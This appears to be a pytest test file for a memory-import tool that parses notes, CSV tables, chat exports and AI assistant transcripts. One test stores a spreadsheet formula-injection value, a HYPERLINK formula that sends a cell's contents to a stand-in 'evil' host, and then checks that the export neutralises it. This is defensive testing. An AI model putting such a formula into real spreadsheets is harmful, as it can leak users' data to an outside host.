"""Odd and broken files: each thing that they hold is taken as it was meant, or named."""

from __future__ import annotations

import csv
import errno
import json
import os
import shutil
import sqlite3
from collections.abc import Callable
from pathlib import Path

import pytest
from conftest import Clock

from memory_core.importing.copies import COPY
from memory_core.importing.request import ImportReport, ImportRequest
from memory_core.interchange.files import WHOLE_MOST
from memory_core.interchange.other_forms import FORMS
from memory_core.memory import Memory
from memory_core.records import Identity, MemoryRecord
from memory_core.remember.request import RememberRequest
from memory_core.text.time.timestamps import day_of

ME = Identity("me")

Bring = Callable[..., ImportReport]


@pytest.fixture(autouse=True)
def after_every_file(clock: Clock) -> None:
    clock.now = 2_000_000_000.0


@pytest.fixture
def bring(memory: Memory, tmp_path: Path) -> Bring:
    """Imports a file of a name and a text."""

    def brought(name: str, text: str | bytes, **more: object) -> ImportReport:
        path = tmp_path / "given" / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(text if isinstance(text, bytes) else text.encode())
        return memory.import_files(ME, ImportRequest(str(path), **more))  # type: ignore[arg-type]

    return brought


def stored(memory: Memory) -> list[MemoryRecord]:
    found = memory.listing(ME, limit=1000)
    return sorted(found, key=lambda each: (each.occurred_at, each.position, each.text))


def texts(memory: Memory) -> list[str]:
    return [each.text for each in stored(memory)]


# Numbers


@pytest.mark.parametrize("number", ["1e400", "-1e400", "1" + "0" * 400], ids=["inf", "-inf", "int"])
def test_a_time_beyond_all_numbers_is_none(memory: Memory, bring: Bring, number: str) -> None:
    ours = f'{{"text": "The heron waits.", "occurred_at": {number}}}\n{{"text": "A stork."}}\n'
    assert bring("a.jsonl", ours).problem_count == 1
    message = f'{{"uuid": "m", "sender": "human", "text": "A swan.", "created_at": {number}}}'
    talk = f'{{"uuid": "a", "created_at": "2024-05-07", "chat_messages": [{message}]}}'
    assert bring("b.json", f"[{talk}]").dated["conversation"] == 1
    assert sorted(texts(memory)) == ["A stork.", "A swan."]


# Lists


@pytest.mark.parametrize("more", ["{0}", "x", "\n\n{0}\n", " " * 2**20 + "{0}"])
def test_what_follows_a_list_is_named(memory: Memory, bring: Bring, more: str) -> None:
    talk = '{"uuid": "a", "chat_messages": [{"uuid": "m", "sender": "human", "text": "A swan."}]}'
    report = bring("a.json", f"[{talk}]" + more.format(f"[{talk}]"))
    assert report.problems == [
        "a.json after element 1: the list ends here, and what follows is not read"
    ]
    assert texts(memory) == ["A swan."]


def test_an_entity_that_says_nothing_is_counted(bring: Bring) -> None:
    report = bring("m.jsonl", '{"type":"entity","name":"Ann","entityType":"x","observations":[]}\n')
    assert report.left_out == {"entity without observations": 1}


# Tables


@pytest.mark.parametrize(
    ("table", "expected", "lines"),
    [
        ('id,text\n1,"a heron\n2,a stork\n3,"a swan"\n4,a gull\n', "gull stork swan", [2]),
        ('id,text\n1,"a heron\n2,a stork\n4,a gull\n', "gull stork", [2]),
        ("id,text\n1,a heron, and more\n2,a stork\n", "stork", [2]),
        ('id,text\n1,"a "grey" heron"\n2,a stork\n', "stork", [2]),
        ("text,when\ra heron,2024-05-07\ra stork,2024-05-08\r", "heron stork", []),
        ("sep=;\ntext;when\na heron;2024-05-07\n;\n", "heron", []),
        ('"id"|"text"|"from, to, by"\n1|"a heron"|x\n\n,,\n', "heron", [4]),
        ('text\n"a\rheron"\n', "a\nheron", []),
    ],
)
def test_each_row_of_a_table_is_read_or_named(
    memory: Memory, bring: Bring, table: str, expected: str, lines: list[int]
) -> None:
    report = bring("t.csv", table)
    said = sorted(text.removeprefix("a ") for text in texts(memory))
    assert said == (expected.split(" ") if "\n" not in expected else [expected])
    assert [int(each.split(" line ")[1].split(":")[0]) for each in report.problems] == lines


def test_a_wrong_line_of_a_table_moves_no_number(bring: Bring) -> None:
    report = bring("t.csv", b"id,text\n1,caf\xe9\n2,\n")
    assert [each.partition(":")[0] for each in report.problems] == ["t.csv line 2", "t.csv line 3"]


def test_who_speaks_in_a_table_is_kept_under_any_name(memory: Memory, bring: Bring) -> None:
    bring("t.csv", "text,role\na heron,Human\na stork,AI\na swan,Ann\n")
    found = {each.text: (each.role, each.speaker) for each in stored(memory)}
    assert found == {
        "a heron": ("user", ""),
        "a stork": ("assistant", ""),
        "a swan": ("", "Ann"),
    }


# Chats


@pytest.mark.parametrize(
    ("first", "second"),
    [
        ("5/7/24, 9:30 PM - Ann: a heron", "5/8/24, 9:30 PM - Bert Ek: a stork"),
        ("07/05/2024, 21:30 - Ann: a heron", "08/05/2024, 21:30 - Bert Ek: a stork"),
        ("[07.05.24, 21:30:00] Ann: a heron", "[08.05.24, 21:30:00] Bert Ek: a stork"),
        ("07-05-2024 21:30 - Ann: a heron", "08-05-2024 21:30 - Bert Ek: a stork"),
        ("07/05/2024 à 21:30 - Ann: a heron", "08/05/2024 à 21:30 - Bert Ek: a stork"),
        ("7/5/24, 9:30\u202fp. m. - Ann: a heron", "8/5/24, 9:30\u202fp. m. - Bert Ek: a stork"),
        ("2024/05/07, 21:30 - Ann: a heron", "2024/05/08, 21:30 - Bert Ek: a stork"),
        ("2024. 05. 07. 21:30 - Ann: a heron", "2024. 05. 08. 21:30 - Bert Ek: a stork"),
        ("24-05-07 21:30 Ann: a heron", "24-05-08 21:30 Bert Ek: a stork"),
        ("2024-05-07T21:30:00Z Ann: a heron", "2024-05-08T23:30:00+02:00 Bert Ek: a stork"),
        ("2024-05-07 21:30:00 <Ann> a heron", "2024-05-08 21:30:00 <Bert Ek> a stork"),
        ("[9:30 PM, 5/7/2024] Ann: a heron", "[9:30 PM, 5/8/2024] Bert Ek: a stork"),
        ("Ann, [07.05.2024 21:30]\na heron", "Bert Ek, [08.05.2024 21:30]\na stork"),
        (
            "\u200f[7.5.2024, 21:30:00] \u202aAnn\u202c: a heron",
            "\u200e[8.5.2024, 21:30:00] \u202aBert Ek\u202c: a stork",
        ),
    ],
)
def test_a_chat_has_its_days_and_speakers_in_each_dress(
    memory: Memory, bring: Bring, first: str, second: str
) -> None:
    report = bring("chat.txt", f"{first}\n{second}\n")
    assert report.problems == []
    seventh = 1_715_117_400.0  # 2024-05-07T21:30Z
    assert [(each.occurred_at, each.speaker, each.text) for each in stored(memory)] == [
        (seventh, "Ann", "a heron"),
        (seventh + 86_400, "Bert Ek", "a stork"),
    ]


def test_a_day_that_may_be_another_one_is_named(memory: Memory, bring: Bring) -> None:
    report = bring("chat.txt", "5/7/24, 9:30 PM - Ann: a heron\n5/7/24, 9:31 PM - Ben: a stork\n")
    assert report.problems == [
        "chat.txt: 5/7/24 may be another day than 2024-07-05, which is taken"
    ]
    assert len(stored(memory)) == 2


def test_what_nobody_said_is_put_in_no_mouth(memory: Memory, bring: Bring) -> None:
    report = bring(
        "chat.txt",
        b"Chat of the flat\n13/5/24, 21:30 - Messages are encrypted.\n"
        b"13/5/24, 21:31 - Ann: a heron\nUser: and a stork\n13/5/24, 21:32 - Ann added Ben\n"
        b"13/5/24, 21:33 - Ben: a sw\xe4n\nmore of Ben\n13/5/24, 25:33 - Ben: late\nmore of Ben\n"
        b"13/5/24, 21:34 - Ann: a gull\n13/5/24 is the day\n",
    )
    assert texts(memory) == ["a heron\nUser: and a stork", "a gull\n13/5/24 is the day"]
    assert report.left_out == {
        "line that belongs to no message": 4,
        "line without a speaker": 1,
    }
    assert [each.partition(":")[0] for each in report.problems] == [
        "chat.txt line 6",
        "chat.txt line 8",
    ]


def test_a_chat_that_was_saved_again_under_another_name_adds_what_is_new(
    memory: Memory, bring: Bring
) -> None:
    chat = "13.05.24, 21:31 - Ann: a heron\n13.05.24, 21:31 - Ben: a stork\n"
    bring("chat.txt", chat)
    report = bring("chat (1).txt", chat + "14.05.24, 21:31 - Ben: a swan\n")
    assert report.counts == {"reinforced": 2, "stored": 1}


def test_the_same_first_line_in_one_minute_is_no_repetition(memory: Memory, bring: Bring) -> None:
    picture = "13.05.24, 21:31 - Ann: <Media omitted>\n"
    chat = f"{picture}a heron\n{picture}a stork\n"
    assert bring("chat.txt", chat).counts == {"stored": 2}
    assert bring("chat.txt", chat).counts == {"reinforced": 2}


def test_a_person_has_the_name_of_no_assistant(memory: Memory, bring: Bring) -> None:
    bring("a.txt", "13.05.24, 21:31 - Claude: a heron\n13.05.24, 21:32 - Ben: a stork\n")
    bring("b.txt", "User: hello there\nClaude: a swan\n")
    found = {each.text: (each.role, each.speaker) for each in stored(memory)}
    assert found["a heron"] == ("", "Claude")
    assert found["a swan"] == ("assistant", "")


# Notes


@pytest.mark.parametrize(
    "matter",
    [
        "---\ntitle: >-\n  A long\n  walk\ntags: [a,\n  'b c']\ncreated: 2024-05-07 # day\n---",
        '---\ntitle: |\n\n  A long walk\ntags: ["a", b c] # two\ndate: 2024-5-7 0:00:00 UTC\n---',
        "\n---\ntitle: A long walk\ntags:\n- a\n- b c\ndate: 2024-05-07 02:00:00 +0200\n---",
        '+++\ntitle = "A long walk"\ntags = ["a", "b c"]\ndate = 2024-05-07T00:00:00Z\n+++',
        "---\rtitle: A long walk\rtags: '#a, b c'\rdate: [[2024-05-07]]\r---\r",
    ],
    ids=["folded", "block", "blank before", "toml", "mac"],
)
def test_front_matter_is_read_in_each_spelling(memory: Memory, bring: Bring, matter: str) -> None:
    assert bring("n.md", f"{matter}\nThe heron waits.\n").problems == []
    (found,) = stored(memory)
    assert (found.text, found.occurred_at) == ("A long walk: The heron waits.", 1_715_040_000.0)
    assert found.tags == ("a", "b c")


def test_a_date_of_a_note_that_cannot_be_read_is_named(memory: Memory, bring: Bring) -> None:
    report = bring("n.md", "---\ndate: May 7, 2024\n---\nThe heron waits.\n")
    assert report.problems == ["n.md: its date 'May 7, 2024' is no date such as 2024-05-07"]
    assert report.dated == {"file": 1}


def test_text_between_two_rules_is_no_front_matter(memory: Memory, bring: Bring) -> None:
    bring("n.md", "---\nThe heron waits.\n---\nThe stork came back.\n")
    assert sorted(texts(memory)) == ["n: The heron waits.", "n: The stork came back."]


def test_only_what_says_something_in_a_note_is_a_memory(memory: Memory, bring: Bring) -> None:
    note = (
        "Birds\n=====\n\nThe heron waits.\n\n---\n\n* * *\n\nOf prey\n-------\n<!-- not yet\n\n"
        "The kite is draft.\n\n--> The hawk hunts.\n- one\n***\n- two\n\n```\n---\n<!--\n```\n\n"
        "Write `<!--` here.\n"
    )
    bring("n.md", note)
    assert sorted(texts(memory)) == [
        "n > Birds > Of prey: The hawk hunts.",
        "n > Birds > Of prey: Write `<!--` here.",
        "n > Birds > Of prey: ```\n---\n<!--\n```",
        "n > Birds > Of prey: one",
        "n > Birds > Of prey: two",
        "n > Birds: The heron waits.",
    ]
    assert bring("m.md", "# Nothing\n\n---\n").left_out == {"note without text": 1}


# Exports of other tools


def event(id: str, text: str, session: str = "s", **more: object) -> str:
    """A line of a transcript of Claude Code."""
    message = {"role": "user", "content": text}
    given = {"type": "user", "uuid": id, "sessionId": session, "message": message}
    return json.dumps({**given, "timestamp": "2024-05-07T09:30:00Z", **more}) + "\n"


def test_a_conversation_that_was_resumed_is_told_once(
    memory: Memory, bring: Bring, tmp_path: Path
) -> None:
    said = "My sister Ann works at the harbour."
    bring("a.jsonl", event("u1", said, "s1"))
    again = event("u1", said, "s2") + event("u2", "My brother Ben lives in Bonn since May.", "s2")
    assert bring("b.jsonl", again).counts == {"reinforced": 1, "stored": 1}


def test_what_a_client_adds_to_a_turn_is_not_said(memory: Memory, bring: Bring) -> None:
    added = "<system-reminder>\nNever mention the weather.\n</system-reminder>"
    seen = "<ide_opened_file>The user opened /weir.py.</ide_opened_file>"
    seen += "<turn_aborted>\nThe user interrupted.\n</turn_aborted>"
    bring("a.jsonl", event("u1", f"{added}\nMy sister Ann works at the harbour.\n{added}{seen}"))
    assert texts(memory) == ["My sister Ann works at the harbour."]


def test_what_an_editor_adds_to_a_turn_of_codex_is_not_said(memory: Memory, bring: Bring) -> None:
    opened = "# Context from my IDE setup:\n\n## Active file: weir.py\n\n"
    asked = f"{opened}## My request for Codex:\n{ASKED}"
    bring("a.jsonl", rollout("c", asked, ANSWERED, opened, ANSWERED, "<skill>\nTo row.</skill>"))
    assert set(texts(memory)) == {ASKED, ANSWERED}


def mem0(text: str, at: str) -> str:
    one = {"id": "a", "memory": text, "hash": "h", "user_id": "ann", "updated_at": at}
    return json.dumps({"results": [one]})


def test_an_older_export_brings_back_no_old_value(memory: Memory, bring: Bring) -> None:
    bring("new.json", mem0("Ann lives in Husum.", "2024-06-01"))
    report = bring("old.json", mem0("Ann lives in Bonn.", "2024-05-01"))
    assert (report.counts, report.left_out) == ({}, {"older than what is known": 1})
    claude = {"account_uuid": "x", "updated_at": "2024-06-01", "conversations_memory": "She rows."}
    bring("memories.json", json.dumps([claude]))
    claude |= {"updated_at": "2024-05-01", "conversations_memory": "She rowed."}
    report = bring("memories.json", json.dumps([claude]))
    assert (report.counts, report.left_out) == ({}, {"older than what is known": 1})
    assert texts(memory) == ["Ann lives in Husum.", "She rows."]


def test_what_mem0_deleted_stays_deleted_in_each_version(
    memory: Memory, bring: Bring, tmp_path: Path
) -> None:
    with sqlite3.connect(tmp_path / "h.db") as db:
        db.execute("CREATE TABLE history (memory_id, old_memory, new_memory, event, created_at)")
        rows = [("a", None, "Ann rows.", "ADD"), ("a", "Ann rows.", None, "DELETE")]
        db.executemany("INSERT INTO history VALUES (?, ?, ?, ?, '2024-05-07')", rows)
    db.close()
    report = bring("h.db", (tmp_path / "h.db").read_bytes())
    assert (report.left_out, report.problems) == ({"deleted": 2}, [])
    assert texts(memory) == []


def test_an_id_that_comes_twice_in_a_table_is_named(memory: Memory, bring: Bring) -> None:
    report = bring("t.csv", "id,text\n1,a heron\n1,a stork\n2,a swan\n2,a swan\n")
    assert report.problems == ["t.csv line 3: its id came before with another text, which is taken"]
    assert sorted(texts(memory)) == ["a heron", "a swan"]
    report = bring("u.csv", "id,text,when\n1,a gull,2024-05-07\n1,a kite,2024-05-08\n")
    assert report.counts == {"stored": 1, "replaced": 1}


def test_a_turn_without_a_time_has_that_of_the_one_before(memory: Memory, bring: Bring) -> None:
    said = {"type": "message", "role": "user", "content": "My sister Ann works at the harbour."}
    lines = [
        {"type": "session_meta", "payload": {"id": "c"}},
        {"type": "response_item", "timestamp": "2024-05-07T21:30:00Z", "payload": said},
        {"type": "response_item", "payload": {**said, "content": "Ben lives in Bonn since May."}},
    ]
    bring("rollout-a.jsonl", "".join(json.dumps(line) + "\n" for line in lines))
    timed = event("u1", "My aunt Eva works at the mill.", timestamp="2024-05-07T21:30:00Z")
    bring("b.jsonl", timed + event("u2", "Cora lives in Kiel since June.", timestamp=None))
    assert [each.occurred_at for each in stored(memory)] == [1_715_117_400.0] * 4


def test_what_comes_twice_the_same_is_counted(bring: Bring) -> None:
    one = {"content": "Ann rows.", "content_hash": "h"}
    assert bring("m.json", json.dumps([one, one])).left_out == {"the same once more": 1}


# Files and folders


def test_a_name_that_is_no_unicode_is_read(memory: Memory, bring: Bring, tmp_path: Path) -> None:
    (tmp_path / "given").mkdir()
    (tmp_path / "given" / os.fsdecode(b"caf\xe9.md")).write_text("- The heron waits.\n")
    memory.import_files(ME, ImportRequest(str(tmp_path / "given")))
    assert texts(memory) == ["caf\ufffd: The heron waits."]


def test_what_the_system_does_not_give_is_named_and_the_rest_is_read(
    memory: Memory, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    root = tmp_path / "given"
    for name in ("a.md", "b.md", "c/d.md", "e/f.md"):
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_text(f"- The heron of {name} waits.\n")
    really, listed = Path.open, os.scandir

    def denied(path: object) -> PermissionError:
        return PermissionError(errno.EACCES, "Permission denied", str(path))

    def opened(path: Path, *args: object, **more: object) -> object:
        if path.name == "a.md":
            raise denied(path)
        return really(path, *args, **more)  # type: ignore[call-overload]

    def scanned(path: object) -> object:
        if str(path).endswith("/c"):
            raise denied(path)
        return listed(path)  # type: ignore[call-overload]

    monkeypatch.setattr(Path, "open", opened)
    monkeypatch.setattr(os, "scandir", scanned)
    report = memory.import_files(ME, ImportRequest(str(root)))
    assert sorted(report.problems) == [
        "a.md: it cannot be read (Permission denied)",
        "c: it cannot be read (Permission denied)",
    ]
    assert report.counts == {"stored": 2}


# What a client copied


def rollout(id: str, *said: str, hour: int = 9, **about: object) -> str:
    """A transcript of Codex, with what the user and the assistant said in turn.

    All of *said* that is copied has the time of the copy.
    """
    metas = about.pop("metas", ())
    times = f"2024-05-07T{hour:02}:30:00Z"
    lines: list[dict[str, object]] = [{"type": "session_meta", "payload": {"id": id, **about}}]
    lines += [{"type": "session_meta", "payload": {"id": each}} for each in metas]  # type: ignore[attr-defined]
    for number, text in enumerate(said):
        role = ("user", "assistant")[number % 2]
        kind = ("input_text", "output_text")[number % 2]
        payload = {"type": "message", "role": role, "content": [{"type": kind, "text": text}]}
        lines.append({"type": "response_item", "payload": payload})
    return "".join(json.dumps({"timestamp": times, **line}) + "\n" for line in lines)


ASKED = "My sister Ann works at the harbour in Husum."
ANSWERED = "The harbour of Husum is tidal, so her shifts follow the tide tables."


def test_a_conversation_that_was_forked_is_told_once(memory: Memory, tmp_path: Path) -> None:
    folder = tmp_path / "sessions"
    folder.mkdir()
    later, other = "My brother Ben lives in Bonn since May.", "My uncle Carl sails from Kiel."
    parent = rollout("p", ASKED, ANSWERED, later)
    fork = rollout("f", ASKED, ANSWERED, other, hour=11, forked_from_id="p", metas=["p"])
    (folder / "rollout-1.jsonl").write_text(parent)
    (folder / "rollout-2.jsonl").write_text(fork)
    for dry_run in (True, False):
        report = memory.import_files(ME, ImportRequest(str(folder), dry_run=dry_run))
        assert report.left_out["copy of an earlier conversation"] == 2
        assert sum(report.counts.values()) == 4
    assert {(each.text, each.session) for each in stored(memory)} == {
        (ASKED, "codex:p"),
        (ANSWERED, "codex:p"),
        (later, "codex:p"),
        (other, "codex:f"),
    }
    assert memory.import_files(ME, ImportRequest(str(folder))).counts == {"reinforced": 4}


def test_two_talks_that_open_with_the_same_request_are_two(memory: Memory, tmp_path: Path) -> None:
    folder = tmp_path / "sessions"
    folder.mkdir()
    (folder / "rollout-1.jsonl").write_text(rollout("a", ASKED, ANSWERED))
    (folder / "rollout-2.jsonl").write_text(rollout("b", ASKED, "I will keep that in mind: Husum."))
    (folder / "rollout-3.jsonl").write_text(rollout("c", ASKED))
    report = memory.import_files(ME, ImportRequest(str(folder)))
    assert "copy of an earlier conversation" not in report.left_out
    asked = [each.session for each in stored(memory) if each.text == ASKED]
    assert sorted(asked) == ["codex:a", "codex:b", "codex:c"]


def test_what_an_agent_told_its_subagent_is_not_the_users(memory: Memory, bring: Bring) -> None:
    source = {"subagent": {"thread_spawn": {"parent_thread_id": "p"}}}
    report = bring("rollout-1.jsonl", rollout("s", ASKED, ANSWERED, source=source))
    assert report.left_out["message of a subagent"] == 2
    assert texts(memory) == []


def test_a_turn_with_a_log_keeps_what_its_author_wrote(memory: Memory, bring: Bring) -> None:
    lines = [f"2024-05-07T09:{n:02}:00Z INFO payouts worker={n} took 12ms" for n in range(40)]
    log = "\n".join(lines)
    said = "The payouts moved to the new queue on Monday."
    asked = ("Why is that?\n" + log, "It drains the old queue first, then the new one.")
    report = bring("rollout-1.jsonl", rollout("s", f"{said}\n{log}", ANSWERED, *asked))
    assert report.left_out["log lines"] == 1
    assert sorted(texts(memory)) == sorted([said, ANSWERED, asked[1]])


def test_a_checkpoint_of_a_recorded_chat_is_told_once(memory: Memory, tmp_path: Path) -> None:
    folder = tmp_path / "tmp" / "0a1b"
    (folder / "chats").mkdir(parents=True)
    later = "My brother Ben lives in Bonn since May."
    chat = [
        {"id": "1", "timestamp": "2024-05-07T09:30:00Z", "type": "user", "content": ASKED},
        {"id": "2", "timestamp": "2024-05-07T09:31:00Z", "type": "gemini", "content": ANSWERED},
    ]
    setup = "This is the Gemini CLI. We are setting up the context for our chat. It is Tuesday."
    told = [("user", setup), ("model", "Got it. Thanks for the context!")]
    told += [("user", ASKED), ("model", ANSWERED), ("user", later)]
    saved = [{"role": role, "parts": [{"text": text}]} for role, text in told]
    recorded = {"sessionId": "s", "projectHash": "0a1b", "messages": chat}
    (folder / "chats" / "session-1.json").write_text(json.dumps(recorded))
    (folder / "checkpoint-birds.json").write_text(json.dumps(saved))
    report = memory.import_files(ME, ImportRequest(str(tmp_path / "tmp")))
    assert report.left_out["copy of an earlier conversation"] == 2
    assert report.left_out["message of the program"] == 2
    assert sorted(texts(memory)) == sorted([ASKED, ANSWERED, later])


def test_a_fork_that_is_imported_later_alone_adds_only_what_is_new(
    memory: Memory, bring: Bring
) -> None:
    later, other = "My brother Ben lives in Bonn since May.", "My uncle Carl sails from Kiel."
    sailed = "The ferries of Kiel sail to Oslo and Gothenburg every day."
    parent = rollout("p", ASKED, ANSWERED, later)
    fork = rollout("f", ASKED, ANSWERED, other, sailed, hour=11, metas=["p"])
    of_fork = rollout("g", ASKED, ANSWERED, other, sailed, "My aunt keeps bees.", hour=12)
    bring("p.jsonl", parent)
    assert bring("f.jsonl", fork, dry_run=True).counts == {"new": 2}
    report = bring("f.jsonl", fork)
    assert (report.left_out[COPY], report.counts) == (2, {"stored": 2})
    report = bring("g.jsonl", of_fork)
    assert (report.left_out[COPY], report.counts) == (4, {"stored": 1})
    grown = rollout("p", ASKED, ANSWERED, later, "Bonn lies on the Rhine, south of Cologne.")
    assert bring("p.jsonl", grown).counts == {"reinforced": 3, "stored": 1}
    assert bring("f.jsonl", fork).counts == {"reinforced": 2}


def test_a_fork_comes_whole_once_its_original_was_taken_back(memory: Memory, bring: Bring) -> None:
    run = bring("p.jsonl", rollout("p", ASKED, ANSWERED)).run
    memory.consolidate(ME, undo=run)
    assert bring("f.jsonl", rollout("f", ASKED, ANSWERED, hour=11)).counts == {"stored": 2}


def test_a_fork_of_claude_code_with_ids_of_its_own_adds_only_what_is_new(
    memory: Memory, bring: Bring
) -> None:
    other = event("u9", "My uncle Carl sails from Kiel.", "s2")
    for session, ids in (("s1", ("u1", "u2")), ("s2", ("u7", "u8"))):
        begun = event(ids[0], ASKED, session) + event(ids[1], ANSWERED, session, type="assistant")
        report = bring(f"{session}.jsonl", begun + (other if session == "s2" else ""))
    assert (report.left_out[COPY], report.counts) == (2, {"stored": 1})
    assert sorted(texts(memory)) == sorted([ASKED, ANSWERED, "My uncle Carl sails from Kiel."])


def test_a_talk_that_opens_as_one_and_goes_on_as_another_is_its_own(
    memory: Memory, bring: Bring
) -> None:
    bring("a.jsonl", rollout("a", ASKED, "I will keep that in mind: Ann, Husum, harbour."))
    bring("b.jsonl", rollout("b", "My sister Ann rows in Husum on Sundays.", ANSWERED))
    assert bring("c.jsonl", rollout("c", ASKED, ANSWERED, hour=11)).counts == {"stored": 2}


def test_an_export_of_ours_in_another_form_is_known(memory: Memory, tmp_path: Path) -> None:
    memory.remember(ME, RememberRequest(ASKED, session="s", speaker="Ann"))
    memory.remember(ME, RememberRequest("The ferry to Föhr leaves at nine.", session="t"))
    for form in ("server-memory", "mem0", "csv"):
        path = tmp_path / f"ours-{form}{'.csv' if form == 'csv' else '.json'}"
        path.write_text("".join(FORMS[form][0](memory.export(ME))), encoding="utf-8")
        assert memory.import_files(ME, ImportRequest(str(path))).counts == {"reinforced": 2}
    assert len(texts(memory)) == 2


def test_a_cell_that_a_spreadsheet_would_run_is_text_and_comes_back(
    memory: Memory, open_memory: Callable[..., Memory], tmp_path: Path
) -> None:
    said = ['=HYPERLINK("http://evil/"&A1,"click") is odd.', "+49 40 1234 is the harbour office."]
    said += ["@Ann rows on Sundays.", "- The ferry leaves at nine.", "'tis a quote, not a sum."]
    for text in said:
        memory.remember(ME, RememberRequest(text, speaker="@SUM(1)", tags=["=1+1"]))
    path = tmp_path / "ours.csv"
    path.write_text("".join(FORMS["csv"][0](memory.export(ME))), encoding="utf-8")
    with path.open(encoding="utf-8", newline="") as rows:
        cells = [cell for row in csv.reader(rows) for cell in row]
    assert [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))] == []
    other = open_memory("other")
    other.import_files(ME, ImportRequest(str(path)))
    assert sorted(each["text"] for each in other.export(ME)) == sorted(said)
    assert {(each["speaker"], *each["tags"]) for each in other.export(ME)} == {("@SUM(1)", "=1+1")}


# What a log of Gemini CLI repeats


def gemini(folder: Path, **files: object) -> str:
    """A folder of a project as Gemini CLI writes it, with *files* by name; its path."""
    for name, held in files.items():
        path = folder / "tmp" / "0a1b" / f"{name.replace('__', '/')}.json"
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(json.dumps(held))
    return str(folder / "tmp")


def typed(session: str, *said: str) -> list[dict[str, object]]:
    """What logs.json holds of *session*."""
    time = "2024-05-07T09:30:{:02}Z"
    return [
        {"sessionId": session, "messageId": n, "type": "user", "message": text}
        | {"timestamp": time.format(n)}
        for n, text in enumerate(said)
    ]


SAVED = [
    {"role": role, "parts": [{"text": text}]}
    for role, text in (("user", ASKED), ("model", ANSWERED))
]
CHAT = {
    "sessionId": "s",
    "projectHash": "0a1b",
    "messages": [
        {"id": "u1", "timestamp": "2024-05-07T09:30:01Z", "type": "user", "content": ASKED},
        {"id": "u2", "timestamp": "2024-05-07T09:31:00Z", "type": "gemini", "content": ANSWERED},
    ],
}


@pytest.mark.parametrize("held", [{"checkpoint-birds": SAVED}, {"chats__session-1": CHAT}])
@pytest.mark.parametrize("packed", [False, True])
def test_what_a_conversation_holds_does_not_come_from_the_log_again(
    memory: Memory, tmp_path: Path, held: dict[str, object], packed: bool
) -> None:
    only, twice = "My brother Ben lives in Bonn since May.", "My aunt keeps bees in Emden."
    log = typed("s", ASKED, only) + typed("t", twice) + typed("r", twice)
    path = gemini(tmp_path, logs=log, **held)
    if packed:
        path = shutil.make_archive(str(tmp_path / "packed"), "zip", path)
    for dry_run in (True, False):
        report = memory.import_files(ME, ImportRequest(path, dry_run=dry_run))
        assert report.left_out[COPY] == 1
    assert sorted(texts(memory)) == sorted([ASKED, ANSWERED, only, twice, twice])
    assert memory.import_files(ME, ImportRequest(path)).counts == {"reinforced": 5}


@pytest.mark.parametrize("held", [{"checkpoint-birds": SAVED}, {"chats__session-1": CHAT}])
def test_a_log_that_is_imported_after_its_conversation_adds_the_rest(
    memory: Memory, tmp_path: Path, held: dict[str, object]
) -> None:
    memory.import_files(ME, ImportRequest(gemini(tmp_path / "first", **held)))
    only = "My brother Ben lives in Bonn since May."
    path = gemini(tmp_path / "second", logs=typed("s", ASKED, only))
    report = memory.import_files(ME, ImportRequest(path))
    assert (report.left_out[COPY], report.counts) == (1, {"stored": 1})
    assert memory.import_files(ME, ImportRequest(path)).counts == {"reinforced": 1}


def test_a_note_that_is_too_large_is_named_and_the_others_come(
    memory: Memory, tmp_path: Path
) -> None:
    folder = tmp_path / "notes"
    folder.mkdir()
    (folder / "big.md").write_text("- A heron waits at the weir.\n" * (WHOLE_MOST // 29 + 1))
    (folder / "small.md").write_text("- A stork nests on the mill.\n")
    report = memory.import_files(ME, ImportRequest(str(folder)))
    assert texts(memory) == ["small: A stork nests on the mill."]
    assert report.problem_count == 1
    assert "big.md" in report.problems[0]
    assert f"at most {WHOLE_MOST} are read at once" in report.problems[0]


def days(memory: Memory) -> dict[str, str]:
    return {each.text: day_of(each.occurred_at).isoformat() for each in memory.listing(ME)}


@pytest.mark.parametrize(
    ("first", "second"),
    [
        ("13.04.2026", "3.4.2026"),
        ("13. 04. 26", "03.04.26 09:30"),
        ("13/04/2026", "03/04/2026"),
        ("13/04/2026, 09:30", "3/4/2026"),
        ("04/13/2026", "04/03/2026 09:30"),
        ("2026/04/13", "2026-04-03"),
    ],
)
def test_days_of_a_table_are_read_as_countries_write_them(
    memory: Memory, bring: Bring, first: str, second: str
) -> None:
    report = bring(
        "g.csv",
        f"Datum;Notiz\n{second};Der Zaun steht\n{first};Die Hecke ist geschnitten\n",
        columns={"text": "Notiz", "when": "Datum"},
    )
    assert report.problems == []
    found = {"Die Hecke ist geschnitten": "2026-04-13", "Der Zaun steht": "2026-04-03"}
    assert days(memory) == found


@pytest.mark.parametrize("other", ["05/04/2026", "04/13/2026,a heron\n13/04/2026"])
def test_a_table_whose_days_may_be_months_is_refused_whole(
    memory: Memory, bring: Bring, other: str
) -> None:
    report = bring("g.csv", f"when,text\n,a swan\n03/04/2026,a gull\n{other},a stork\n")
    assert report.problems == [
        "g.csv: invalid_input: g.csv is not stored: '03/04/2026' may have the day or the month "
        "first; write its dates as 2024-05-07, then import it again"
    ]
    assert memory.listing(ME) == []


def test_a_row_without_a_readable_day_comes_when_it_is_corrected(
    memory: Memory, bring: Bring
) -> None:
    report = bring("g.csv", "when,text\n32.04.2026,a gull\n3.4.2026,a stork\n")
    assert report.problems == [
        "g.csv line 2: '32.04.2026' is no date such as 2024-05-07 or 7.5.2024, so its text is not "
        "stored; correct it, then import it again"
    ]
    bring("g.csv", "when,text\n30.04.2026,a gull\n3.4.2026,a stork\n")
    assert days(memory) == {"a gull": "2026-04-30", "a stork": "2026-04-03"}


@pytest.mark.parametrize(
    ("columns", "missing"),
    [({"text": "Foo"}, "text"), ({"text": "Notiz", "when": "Foo"}, "when")],
)
def test_a_column_that_is_not_there_is_named_with_those_that_are(
    bring: Bring, columns: dict[str, str], missing: str
) -> None:
    report = bring("g.csv", "Datum;Notiz\n13.04.2026;Die Hecke\n", columns=columns)
    assert report.problems == [
        "g.csv: invalid_input: g.csv has no column 'Foo'; its columns are: Datum, Notiz; "
        f"name one of them: --column {missing}=NAME"
    ]
    assert not report.counts
